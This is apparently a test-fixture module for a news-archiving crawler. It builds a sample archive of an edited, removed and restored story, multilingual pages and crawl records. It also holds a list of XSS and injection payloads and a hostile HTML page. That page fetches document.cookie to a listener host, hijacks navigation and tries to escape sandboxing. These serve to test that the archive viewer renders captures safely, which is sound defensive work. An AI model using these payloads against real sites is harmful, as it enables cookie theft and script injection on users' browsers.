"""An archive for readers: a story that was edited, taken down and copied, other languages, and pages of an enemy.

Nothing is tested here. `fill` writes it around the time it is called, so that the pictures of the last days have
something to show.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

from crawler.extraction.duplicates import fingerprinted
from crawler.frontier import frontier_of
from crawler.frontier.address_state import Announcement, SiteRun, SiteState, Visit
from crawler.frontier.run_counts import RunCounts
from storage import cdxj
from storage.archive import Archive
from storage.articles import write_part
from storage.model import Article, Block, Capture, Exchange, Extractor, Reason, TextSource
from storage.objects.local import LocalStore
from storage.spool import Parcel
from storage.warc import make_stem
from storage.warc_writer import WarcWriter

PAPER, HERALD, ENEMY = "https://www.paper.example", "https://herald.example", "http://enemy.example"
STORY = f"{PAPER}/2026/harbour-bridge"
REQUEST = b"GET /2026/harbour-bridge HTTP/1.1\r\nHost: www.paper.example\r\nUser-Agent: newskeep\r\n\r\n"
_HTML = ("Content-Type", "text/html; charset=utf-8")


@dataclass(frozen=True, slots=True)
class Fetched:
    """One capture, and the article that was made of it."""

    url: str
    moment: datetime
    response: bytes
    article: Article | None = None
    #: The same bytes again as the capture before, or a 304 that confirms them.
    again: bool = False


def answer(body: str, status: str = "200 OK", fields: Sequence[tuple[str, str]] = (_HTML,)) -> bytes:
    data = body.encode()
    lines = [f"{name}: {value}" for name, value in [*fields, ("Content-Length", str(len(data)))]]
    return "\r\n".join([f"HTTP/1.1 {status}", *lines, "", ""]).encode() + data


def kept(text: str, kind: str = "p") -> Block:
    return Block(text, kind, True, Reason("model", probability=0.97))


def gone(text: str, reason: Reason, kind: str = "p") -> Block:
    return Block(text, kind, False, reason)


STORY_BLOCKS = (
    gone("Home", Reason("navigation"), "li"),
    gone("Politics", Reason("navigation"), "li"),
    gone("Sport", Reason("navigation"), "li"),
    kept("Council approves the harbour bridge", "h1"),
    kept(
        "After six hours of debate the city council voted on Monday evening to build the bridge over the old harbour, "
        "with 31 votes for it and 24 against."
    ),
    kept(
        "Work is to begin in the spring. The mayor, Ada Holm, called the vote “a decision for the next hundred years”, "
        "while the opposition pointed to a budget that has grown twice since the plan was first shown to the public."
    ),
    gone("Read also: Ferries will run until the bridge opens", Reason("repeated", "on 14 articles of paper.example")),
    kept("What it costs", "h2"),
    kept("The council’s own figures, in millions:"),
    kept("Part | Planned | Now", "row"),
    kept("Foundations | 120 | 164", "row"),
    kept("Spans and towers | 310 | 352", "row"),
    kept("Roads | 85 | 91", "row"),
    kept("A bridge is cheaper than the second tunnel that nobody asked for.", "quote"),
    kept("Still open are", "p"),
    kept("the colour of the towers,", "li"),
    kept("the toll for lorries,", "li"),
    kept("who pays for the noise barriers.", "li"),
    gone("Subscribe to our morning letter and never miss a story", Reason("model", probability=0.03)),
    kept("What comes next", "h2"),
    kept(
        "The ministry has eight weeks to object. Until then the ferry keeps its timetable, and the piers on the east "
        "side stay open to walkers."
    ),
    gone("© The Paper. All rights reserved.", Reason("repeated", "on 120 articles of paper.example")),
    gone("Accept cookies", Reason("control")),
)
_EDITS = {
    "with 31 votes for it and 24 against": "with 30 votes for it and 25 against",
    "Work is to begin in the spring.": "Work is to begin next autumn at the earliest.",
}


def _edited(blocks: tuple[Block, ...]) -> tuple[Block, ...]:
    found = []
    for block in blocks:
        text = block.text
        for before, after in _EDITS.items():
            text = text.replace(before, after)
        found.append(replace(block, text=text))
    return (*found, kept("Correction: an earlier version of this article gave the result of the vote as 31 to 24."))


def story(title: str = "Council approves the harbour bridge", edited: bool = False, url: str = STORY) -> Article:
    return Article(
        url=url,
        title=title,
        authors=("Mette Kjær", "Jonas Ravn"),
        published="2026-11-02T21:40:00+01:00",
        modified="2026-11-03T07:15:00+01:00",
        language="en",
        section="City",
        topics=("Harbour", "Traffic", "Council"),
        description="The harbour bridge will be built, if the ministry does not object.",
        canonical_url=url,
        blocks=_edited(STORY_BLOCKS) if edited else STORY_BLOCKS,
        sources={"title": "json-ld headline", "authors": "json-ld author", "published": "meta article:published_time"},
        doubts={"authors": "byline: Mette Kjær"},
        extractor=Extractor("newskeep", "0.1.0", "sha256:" + "ab" * 32, "model"),
    )


def plain(url: str, title: str, language: str | None, *texts: str, **fields: object) -> Article:
    blocks = tuple(kept(text) for text in texts)
    article = Article(url=url, title=title, language=language, blocks=blocks, extractor=Extractor("newskeep", "0.1.0"))
    return replace(article, **fields)  # type: ignore[arg-type]


DANISH = (
    "Rødgrød med fløde er årets ret",
    "Juryen var enig: rødgrød med fløde er årets ret, og det skyldes især de solbær, som høsten har givet så mange af.",
)
ARABIC = (
    "افتتاح الجسر الجديد فوق الميناء",
    "صوت المجلس مساء الاثنين لصالح بناء الجسر فوق الميناء القديم بعد نقاش طويل.",
)
JAPANESE = (
    "港の橋、市議会が承認",
    "市議会は月曜日の夜、長い議論の末に古い港に橋を架けることを決めた。工事は春に始まる予定だ。",
)
LONG = "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaftsversammlung" * 2


def pages(now: datetime) -> list[Fetched]:
    """What is held, in order of time."""
    first = now - timedelta(days=12)
    body = "<!doctype html><title>The Paper</title><h1>Council approves the harbour bridge</h1><p>After six hours …"
    fetched = [
        Fetched(STORY, first, answer(body), story()),
        Fetched(STORY, first + timedelta(hours=7), answer(body), again=True),
        Fetched(
            STORY,
            first + timedelta(days=2),
            answer(f"{body} 30 votes"),
            story("Council narrowly approves the harbour bridge", True),
        ),
        Fetched(STORY, first + timedelta(days=5), answer("<p>Gone", "410 Gone")),
        Fetched(STORY, first + timedelta(days=8), answer(f"{body} back"), story("Harbour bridge: what we know", True)),
        Fetched(STORY, first + timedelta(days=9), b'HTTP/1.1 304 Not Modified\r\nETag: "x"\r\n\r\n', again=True),
        Fetched(f"{PAPER}/short/bridge", first, answer("", "301 Moved Permanently", [("Location", STORY)])),
        Fetched(
            f"{HERALD}/wire/bridge",
            first + timedelta(days=3),
            answer(body),
            story(url=f"{HERALD}/wire/bridge"),
        ),
        Fetched(f"{PAPER}/report.pdf", first, answer("%PDF-1.7", fields=[("Content-Type", "application/pdf")])),
    ]
    for number, (language, (title, text)) in enumerate((("da", DANISH), ("ar", ARABIC), ("ja", JAPANESE))):
        url = f"{HERALD}/{language}/1"
        fetched.append(
            Fetched(url, now - timedelta(hours=5 * number + 1), answer(text), plain(url, title, language, text))
        )
    long = f"{HERALD}/" + "very-long-" * 30
    fetched.append(Fetched(long, now - timedelta(hours=3), answer(LONG), plain(long, LONG, "de", LONG)))
    for number in range(70):
        url = f"{(PAPER, HERALD)[number % 3 == 0]}/news/{number}"
        text = f"Report number {number} from the harbour, where {number + 3} ships came in and the wind was light."
        # Of most half are doubtful, which is more than a page of them.
        sure = number % 10 / 10 if number < 68 else None
        title = f"Ships in the harbour: report {number}"
        article = plain(url, title, "en", text, authors=("Ole Lind",), confidence=sure)
        fetched.append(Fetched(url, now - timedelta(hours=4 + number * 7), answer(text), article))
    return sorted(fetched, key=lambda one: one.moment)


def payloads(listener: str) -> list[str]:
    """What an enemy writes where text is expected. Each would leave an element marked `data-pwned`, or call home."""
    call = f"fetch('{listener}/ran')"
    work = " * ".join(map(str, FACTORS))
    return [
        f"<script data-pwned>{call}</script>",
        f'"><script data-pwned src={listener}/script></script>',
        f"\"'><img data-pwned src={listener}/img onerror={call}>",
        f"<svg data-pwned onload={call}>",
        f"</title></style></textarea></template><iframe data-pwned src={listener}/frame></iframe>",
        f'" autofocus onfocus="{call}" data-pwned="',
        f"' onmouseover='{call}' data-pwned='",
        f"<meta data-pwned http-equiv=refresh content='0;url={listener}/meta'>",
        f"<base data-pwned href={listener}/base/>",
        f"<link data-pwned rel=stylesheet href={listener}/css>",
        f'<noscript><p title="</noscript><img data-pwned src={listener}/noscript>">',
        "&lt;b data-pwned&gt;&#60;b data-pwned&#62;",
        f"{{{{ {work} }}}}{{% raw %}}<b data-pwned>{{% endraw %}}${{{work}}}",
        "--><b data-pwned>]]><b data-pwned>",
        f"javascript:{call}//",
        f"data:text/html,<script data-pwned>{call}</script>",
        "\u202edetrevni\u202c\u2066<b data-pwned>",
        "<b data-pwned\x0b\x0c>",
    ]


#: A page that tries to get out of its sandbox; `{listener}` must never be asked for anything.
HOSTILE = """<!doctype html><html><head><title>Innocent</title>
<meta http-equiv="refresh" content="0;url={listener}/refresh">
<link rel="stylesheet" href="{listener}/style.css"><link rel="prefetch" href="{listener}/prefetch">
<link rel="dns-prefetch" href="{listener}"><link rel="preload" as="image" href="{listener}/preload.png">
<script src="{listener}/script.js"></script>
<script>
document.title = "ran"; document.documentElement.setAttribute("data-ran", "yes");
fetch("{listener}/cookies?" + document.cookie); new Image().src = "{listener}/image?" + document.cookie;
navigator.sendBeacon("{listener}/beacon", "x"); navigator.serviceWorker.register("/web/sw.js");
top.location = "{listener}/top"; parent.document.title = "ran"; window.open("{listener}/popup");
new WebSocket("{listener}".replace("http", "ws")); document.forms[0].submit();
</script></head>
<body onload="fetch('{listener}/onload')">
<h1 id="shown">Innocent page</h1>
<img src="{listener}/picture.png" onerror="fetch('{listener}/onerror')">
<iframe src="{listener}/frame"></iframe><object data="{listener}/object"></object><embed src="{listener}/embed">
<video src="{listener}/video" autoplay></video><audio src="{listener}/audio" autoplay></audio>
<form id="form" action="{listener}/form" method="post"><input name="q" value="x"><button id="send">Send</button></form>
<a id="top" href="{listener}/link" target="_top">top</a> <a id="pop" href="{listener}/popup" target="_blank">popup</a>
<a id="js" href="javascript:fetch('{listener}/js')">script</a>
<a ping="{listener}/ping" id="ping" href="#here">ping</a>
<style>@import "{listener}/import.css"; body { background: url({listener}/background.png) }
@font-face { font-family: x; src: url({listener}/font.woff) } h1 { font-family: x }</style>
</body></html>"""


#: What a template that ran would work out: a number too long to stand in a digest by chance.
FACTORS = 7, 191_919_191
#: Payloads on one of the enemy's pages.
GROUP = 3


def enemy_url(number: int) -> str:
    """Address of one of the enemy's pages, which are numbered from 0."""
    return f"{ENEMY}/x{number}?q=%22%3E%3Cscript%20data-pwned%3E&y=%27onerror=(1)//"


def enemy_pages(listener: str, now: datetime) -> list[Fetched]:
    """Articles whose every field is payloads, in two versions, and a page that attacks who looks at the original."""
    fetched = []
    every = payloads(listener)
    for number in range(len(every) // GROUP):
        url, group = enemy_url(number), every[number * GROUP :][:GROUP]
        article = _enemy_article(url, group)
        later = replace(article, title=f"changed {article.title}", blocks=(*article.blocks, *map(kept, group)))
        flat = [payload.replace("\x0b", " ").replace("\x0c", " ") for payload in group]
        fields = [_HTML, *(("X-Payload", each) for each in flat), *((f"X-{each}", "1") for each in flat)]
        fields += [("Set-Cookie", f"reader={each}") for each in flat]
        body, status = HOSTILE.replace("{listener}", listener) + "".join(group), f"200 {flat[0]}"
        moment = now - timedelta(hours=2, seconds=number)
        fetched.append(Fetched(url, moment - timedelta(days=1), answer(body, status, fields), article))
        fetched.append(Fetched(url, moment, answer(f"{body}2", status, fields), later))
    return sorted(fetched, key=lambda one: one.moment)


def _enemy_article(url: str, group: list[str]) -> Article:
    one, two, three = group
    kinds = ("p", "h2", "li", "quote", "pre", "row", "caption")
    return Article(
        url=url,
        title=f"{one} {two} {three}",
        authors=tuple(group),
        published=one,
        modified=two,
        language=three,
        section=two,
        topics=tuple(group),
        image=three,
        description=one,
        canonical_url=two,
        confidence=0.01,
        blocks=(
            *(Block(payload, kind, True, Reason(payload)) for payload in group for kind in (*kinds, payload)),
            *(Block(payload, "p", False, Reason(payload)) for payload in group),
            *(Block(payload, "li", False, Reason("repeated", f"on 3 articles of {payload}")) for payload in group),
        ),
        sources={"title": one, "authors": two, "image": three, one: one},
        doubts={"authors": one, "image": two, "title": three},
        extractor=Extractor(one, two, None, three),
    )


def write(folder: Path, serial: int, fetched: list[Fetched]) -> Parcel:
    """Write a WARC with its parts."""
    folder.mkdir(exist_ok=True)
    filename = make_stem(fetched[0].moment, "0123456789ab", serial) + ".warc.gz"
    parcel = Parcel(folder / filename)
    writer = WarcWriter(parcel.warc, filename, {"software": "newskeep/tests"})
    captures: list[Capture] = []
    articles: list[Article] = []
    newest: dict[str, Capture] = {}
    for one in fetched:
        exchange = Exchange(one.url, one.moment, REQUEST, one.response, peer="192.0.2.1")
        capture = writer.append(exchange, newest[one.url] if one.again else None)
        assert capture is not None
        captures.append(capture)
        newest[one.url] = capture
        if one.article is not None:
            place = TextSource(filename, capture.offset, capture.length, capture.digest)
            articles.append(fingerprinted(replace(one.article, timestamp=capture.timestamp, warc=place)))
    writer.close()
    parcel.cdxj.write_bytes(b"".join(cdxj.lines(captures)))
    with parcel.text.open("wb") as file:
        for _ in write_part(file, articles):
            pass
    return parcel


def fill(folder: Path, listener: str | None = None, now: datetime | None = None) -> datetime:
    """Make the archive in a folder; return the time that it is made for.

    With the address of a `listener` the enemy's pages are in it, and their payloads wherever a crawl leaves text.
    """
    now = (now or datetime.now(UTC)).replace(microsecond=0)
    folder.mkdir()
    with Archive(LocalStore(str(folder)), folder) as archive:
        archive.deliver(write(folder / "made", 0, pages(now)))
        if listener is not None:
            archive.deliver(write(folder / "made", 1, enemy_pages(listener, now)))
        for back in range(6):
            day = now - timedelta(days=back)
            counts = {"archived": 12 + back * 3, "failed": back % 3 * 2, "refused": back % 2, "unchanged": 20 - back}
            head = {"crawl": f"{back:012}", "state": "finished", "counts": counts}
            text = json.dumps(head)[:-1] + ', "outcomes": [\n{"url": "x"}\n]}\n'
            archive.store.put(f"crawls/{day:%Y/%m/%d}/{back:012}.json", text.encode())
        bad = payloads(listener) if listener is not None else ["the site blocks us"]
        odd = {"counts": dict.fromkeys(bad, 3), "state": bad[0]}
        archive.store.put(f"crawls/{now:%Y/%m/%d}/ffffffffffff.json", json.dumps(odd).encode())
        archive.store.put(f"crawls/{now:%Y/%m/%d}/broken.json", b"\x00 not a report")
        _fill_frontier(archive, bad, now)
    return now


def _fill_frontier(archive: Archive, bad: list[str], now: datetime) -> None:
    frontier = frontier_of(archive)
    for site, host in (("paper", PAPER), ("enemy.example", ENEMY)):
        urls = [f"{host}/news/{number}" for number in range(70)] if site == "paper" else []
        urls += [entry.url for entry in archive.index.articles(site=host.partition("://")[2].removeprefix("www."))]
        items = [Announcement(url, "article", f"{host}/feed", now - timedelta(days=2)) for url in dict.fromkeys(urls)]
        frontier.announce(site, items, now - timedelta(days=1))
        states = [Visit(site, item.url, "article", now, "held", None) for item in items[: len(items) * 3 // 4]]
        reason = "robots.txt forbids it" if site == "paper" else bad[0]
        rest = items[len(states) :]
        states += [Visit(site, item.url, "article", now, "refused", None, reason=reason) for item in rest[:5]]
        frontier.visited(states)
        frontier.put_site(SiteState(site, due=now + timedelta(hours=1), blocked_reason=reason, blocked_until=None))
        for number in range(3):
            frontier.start_run(
                SiteRun(
                    site,
                    f"{number:012}",
                    now - timedelta(hours=6 * number + 1),
                    now - timedelta(hours=6 * number),
                    "finished",
                    RunCounts(announced=40, new=5 + number, archived=5, failed=number),
                    {"www.paper.example": "timed out after 60 s"} if number else {},
                    ("feed: not XML",) if site == "paper" and number else tuple(bad) if number else (),
                )
            )
